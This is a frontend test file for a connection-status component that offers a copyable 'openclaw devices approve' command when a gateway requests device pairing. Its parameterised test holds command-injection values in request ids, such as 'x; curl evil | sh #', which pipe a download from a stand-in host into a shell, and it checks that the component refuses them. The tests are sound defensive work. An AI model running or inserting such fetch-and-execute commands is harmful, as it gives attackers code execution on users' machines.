import { screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, it } from "vitest";
import { ConnectionStatus } from "../../src/demo/connection-status";
import { classifyConnectError } from "../../src/gateway/connect-failure";
import type { ConnectionState } from "../../src/gateway/types";
import { renderWithStore } from "./support";

const ISSUED_ID = "5f0c2a9e-8b1d-4c3e-9a7f-2d6b1e4c8a03";

function pairingRefusal(requestId: string): ConnectionState {
  const outcome = classifyConnectError(
    {
      code: "NOT_PAIRED",
      message: "pairing required: device is not approved yet",
      details: { code: "PAIRING_REQUIRED", requestId, recommendedNextStep: "wait_then_retry" },
    },
    "http://192.168.1.20:5173",
  );
  if (outcome.kind !== "fail") throw new Error(`expected fail, got ${outcome.kind}`);
  return { status: "failed", failure: outcome.failure };
}

function renderStatus(connection: ConnectionState) {
  return renderWithStore(<ConnectionStatus onOpenSettings={() => undefined} />, {
    prompts: [],
    connection,
  });
}

describe("given the gateway asks the demo page's device for pairing approval", () => {
  it("should copy exactly the one-line approve command for the gateway's request id", async () => {
    const user = userEvent.setup();
    renderStatus(pairingRefusal(ISSUED_ID));
    await user.click(screen.getByRole("button", { name: "Copy command" }));
    expect(await navigator.clipboard.readText()).toBe(`openclaw devices approve ${ISSUED_ID}`);
    expect(screen.getByRole("button", { name: "Copied" })).toBeInTheDocument();
  });

  it.each([
    ["shell metacharacters", "x; curl evil | sh #"],
    ["a newline", `${ISSUED_ID}\ncurl evil | sh`],
    ["a carriage return", `${ISSUED_ID}\rcurl evil | sh`],
  ])("should offer no command to copy when the request id holds %s", (_, requestId) => {
    renderStatus(pairingRefusal(requestId));
    const alert = screen.getByRole("alert");
    expect(alert).toHaveTextContent("This browser is waiting for pairing approval.");
    expect(alert).toHaveTextContent("openclaw devices list");
    expect(alert).not.toHaveTextContent("curl");
    expect(screen.queryByRole("button", { name: "Copy command" })).not.toBeInTheDocument();
  });
});
